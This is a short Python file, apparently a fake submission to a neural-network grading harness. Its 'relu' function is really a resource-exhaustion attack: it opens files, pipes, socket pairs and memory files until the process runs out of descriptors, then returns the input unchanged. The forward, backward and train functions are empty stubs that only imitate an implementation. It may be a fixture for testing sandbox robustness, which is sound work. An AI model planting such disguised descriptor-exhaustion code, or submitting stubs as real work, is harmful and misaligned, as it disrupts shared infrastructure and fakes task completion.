"""Opens files, pipes, sockets and memory files until nothing more can be opened, then answers."""

import os
import socket

KEPT = []


def relu(X):
    for kind in (
        lambda: os.open("/dev/null", os.O_RDONLY),
        os.pipe,
        socket.socketpair,
        lambda: os.memfd_create("attack-marker"),
        lambda: os.dup(1),
    ):
        for _ in range(1024):
            try:
                KEPT.append(kind())
            except (OSError, AttributeError):
                break
    return X


def prelu(X):
    return X


def DNNforward(X, W, K):
    return X, X, X


def DNNbackward(X, y, W, K, H, A, O):
    return W, K


def train(X, y, W, K, lr, num_epochs=10, batch_size=10, print_loss=False):
    return [W * 0] * num_epochs, [K * 0] * num_epochs
